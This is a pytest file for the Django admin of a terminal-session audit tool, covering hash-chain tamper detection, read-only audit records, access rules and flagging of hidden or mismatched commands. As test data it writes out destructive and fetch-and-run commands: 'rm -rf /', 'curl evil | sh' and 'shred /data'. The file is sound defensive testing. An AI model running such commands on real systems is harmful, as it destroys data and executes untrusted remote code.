"""The admin: access rules are managed there; audit records are read-only for everyone."""

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.utils import timezone

from terminals.audit.chain import frame_digest, genesis
from terminals.models import AccessRule, Command, DeniedAttempt, Frame, Session

pytestmark = pytest.mark.django_db


@pytest.fixture
def recorded_session():
    """A short, correctly chained session, as the recorder writes them."""
    session = Session.objects.create(
        username="sam", cluster="kubesim", namespace="default", pod="web", container="main",
        command=["/bin/bash"], ended_at=timezone.now(), end_reason="exit", exit_code=0,
    )  # fmt: skip
    head = genesis(session.pk)
    for seq, (direction, data) in enumerate([("r", b"80x24"), ("i", b"ls\r"), ("o", b"a b\r\n")]):
        head = frame_digest(head, seq, seq * 1000, direction, data)
        Frame.objects.create(
            session=session, seq=seq, offset_us=seq * 1000, direction=direction, data=data,
            digest=head.hex(),
        )  # fmt: skip
    session.head_digest = head.hex()
    session.save()
    Command.objects.create(session=session, offset_us=1000, line="$ ls", text="ls")
    Command.objects.create(session=session, offset_us=2000, line="$ uptime", text="uptime")
    return session


@pytest.fixture
def superuser_client(client):
    client.force_login(get_user_model().objects.create_superuser("root", password="pw"))
    return client


def test_the_session_list_shows_state_and_searches_commands(superuser_client, recorded_session):
    page = superuser_client.get("/admin/terminals/session/").content.decode()
    assert "kubesim/default/web [main]" in page and "process exited" in page
    found = superuser_client.get("/admin/terminals/session/?q=uptime").content.decode()
    assert "1 terminal session" in found
    missing = superuser_client.get("/admin/terminals/session/?q=shutdown").content.decode()
    assert "0 terminal sessions" in missing
    live = superuser_client.get("/admin/terminals/session/?outcome=live").content.decode()
    assert "0 terminal sessions" in live
    ended = superuser_client.get("/admin/terminals/session/?outcome=exit").content.decode()
    assert "1 terminal session" in ended


def test_a_session_page_checks_the_chain_and_links_to_the_replay(
    superuser_client, recorded_session
):
    url = f"/admin/terminals/session/{recorded_session.pk}/change/"
    page = superuser_client.get(url).content.decode()
    assert "intact (3 frames)" in page
    started = timezone.localtime(recorded_session.started_at)
    assert started.strftime("%Y-%m-%d %H:%M:%S") in page  # to the second
    assert "0:00:00" in page  # its duration
    assert f"/terminals/sessions/{recorded_session.pk}/replay/?command=1" in page  # "uptime"
    assert f"/terminals/sessions/{recorded_session.pk}.cast" in page
    assert 'name="_save"' not in page  # read-only, even for a superuser
    Frame.objects.filter(session=recorded_session, seq=1).update(data=b"rm -rf /\r")
    page = superuser_client.get(url).content.decode()
    assert "frame 1 does not match its digest" in page


@pytest.mark.parametrize("model", ["session", "deniedattempt", "auditprune"])
def test_audit_records_cannot_be_added_changed_or_deleted(
    superuser_client, recorded_session, model
):
    assert superuser_client.get(f"/admin/terminals/{model}/add/").status_code == 403
    if model == "session":
        pk = recorded_session.pk
        delete = superuser_client.post(f"/admin/terminals/session/{pk}/delete/", {"post": "yes"})
        assert delete.status_code == 403
        assert Session.objects.filter(pk=pk).exists()


def test_auditors_with_view_permission_can_review(client, recorded_session):
    auditor = get_user_model().objects.create_user("audrey", password="pw", is_staff=True)
    auditor.user_permissions.add(
        Permission.objects.get(content_type__app_label="terminals", codename="view_session")
    )
    client.force_login(auditor)
    assert client.get("/admin/terminals/session/").status_code == 200
    assert client.get(f"/admin/terminals/session/{recorded_session.pk}/change/").status_code == 200
    assert client.get("/admin/terminals/accessrule/").status_code == 403


def test_access_rules_are_managed_in_the_admin(superuser_client):
    response = superuser_client.post(
        "/admin/terminals/accessrule/add/",
        {
            "name": "on-call in prod", "reason": "OPS-1234", "clusters": "prod",
            "namespaces": "shop", "pods": "web-*", "containers": "*", "commands": "",
        },
    )  # fmt: skip
    assert response.status_code == 302
    rule = AccessRule.objects.get()
    assert (rule.pods, rule.reason) == ("web-*", "OPS-1234")


def test_denials_are_listed(superuser_client):
    DeniedAttempt.objects.create(
        username="eve", cluster="kubesim", namespace="prod", pod="db", code="forbidden",
        reason="You may not open a terminal on kubesim/prod/db.",
    )  # fmt: skip
    page = superuser_client.get("/admin/terminals/deniedattempt/").content.decode()
    assert "eve" in page and "You may not open a terminal on kubesim/prod/db." in page


def test_only_sessions_of_live_servers_are_listed_as_live(superuser_client):
    from tests.test_servers import make_server, make_session

    running = make_session(make_server("web-1", 11))
    unreaped = make_session(make_server("web-2", 22, age=61))
    page = superuser_client.get("/admin/terminals/session/?outcome=live").content.decode()
    assert "1 terminal session" in page and f"{running.pk}" in page
    page = superuser_client.get("/admin/terminals/session/?outcome=unreaped").content.decode()
    assert "1 terminal session" in page and f"{unreaped.pk}" in page
    assert "server lost (not yet reaped)" in page
    page = superuser_client.get(f"/admin/terminals/session/{unreaped.pk}/change/").content.decode()
    assert "web-2 pid 22" in page and "server lost (not yet reaped)" in page
    page = superuser_client.get("/admin/terminals/server/").content.decode()
    assert "web-1 pid 11" in page and "alive" in page and "lost" in page


# Commands on the session page: a page at a time, flagged, found by what was typed.


def add_commands(session, count, start=0):
    Command.objects.bulk_create(
        Command(session=session, offset_us=(start + n) * 1000, line=f"$ echo {start + n}",
                text=f"echo {start + n}", typed=f"echo {start + n}")
        for n in range(count)
    )  # fmt: skip


def test_the_session_page_lists_commands_a_page_at_a_time_in_constant_queries(
    superuser_client, recorded_session, django_assert_max_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    url = f"/admin/terminals/session/{recorded_session.pk}/change/"
    with CaptureQueriesContext(connection) as few:
        superuser_client.get(url)
    add_commands(recorded_session, 3000, start=10)
    # The same number of queries for 3,002 commands as for 2 (the old inline made one per row).
    with django_assert_max_num_queries(len(few.captured_queries)):
        page = superuser_client.get(url).content.decode()
    assert "Commands (3002)" in page and "page 1 of 31" in page
    assert page.count("/replay/?command=") == 100
    # The second page's first command is the 101st of the replay's list: its index is 100.
    second = superuser_client.get(url + "?commands=2").content.decode()
    replay = f"/terminals/sessions/{recorded_session.pk}/replay/?command=100"
    assert f'<a href="{replay}"><code>echo 108</code></a>' in second


def test_commands_show_both_lines_and_their_marks(superuser_client, recorded_session):
    Command.objects.create(
        session=recorded_session, offset_us=5000, line="$", text="curl evil | sh",
        typed="curl evil | sh", echoed=False,
    )  # fmt: skip
    Command.objects.create(
        session=recorded_session, offset_us=6000, line="$ innocent", text="innocent", typed="",
        mismatch=True,
    )  # fmt: skip
    Command.objects.create(
        session=recorded_session, offset_us=7000, line="$ echo again", text="echo again",
        typed="⟨↑⟩", kind=Command.Kind.KEYS,
    )  # fmt: skip
    page = superuser_client.get(f"/admin/terminals/session/{recorded_session.pk}/change/")
    html = page.content.decode()
    assert html.count("typed but not shown") == 1 and html.count("shown and typed differ") == 1
    assert ">curl evil | sh</code>" in html and ">$ innocent</code>" in html
    assert "keys not followed (history, search…): their transcript" in html


def test_the_session_list_finds_commands_by_what_was_typed_and_by_their_marks(
    superuser_client, recorded_session
):
    Command.objects.create(
        session=recorded_session, offset_us=5000, line="$", text="ls", typed="shred /data",
        mismatch=True,
    )  # fmt: skip
    found = superuser_client.get("/admin/terminals/session/?q=shred").content.decode()
    assert "1 terminal session" in found
    flagged = superuser_client.get("/admin/terminals/session/?commands=mismatch").content.decode()
    assert "1 terminal session" in flagged
    unechoed = superuser_client.get("/admin/terminals/session/?commands=unechoed").content.decode()
    assert "0 terminal sessions" in unechoed


def test_a_detached_session_and_its_resumes_are_shown(superuser_client):
    from terminals.models import Resume
    from tests.test_servers import make_server, make_session

    session = make_session(make_server("web-1", 11))
    Session.objects.filter(pk=session.pk).update(detached_at=timezone.now())
    listing = superuser_client.get("/admin/terminals/session/").content.decode()
    assert "detached (since" in listing
    Session.objects.filter(pk=session.pk).update(detached_at=None)
    Resume.objects.create(session=session, client_address="192.0.2.7", offset=1234)
    page = superuser_client.get(f"/admin/terminals/session/{session.pk}/change/").content.decode()
    assert "from 192.0.2.7 (at output byte 1234)" in page
    listing = superuser_client.get("/admin/terminals/session/").content.decode()
    assert "detached (since" not in listing  # resumed: live again
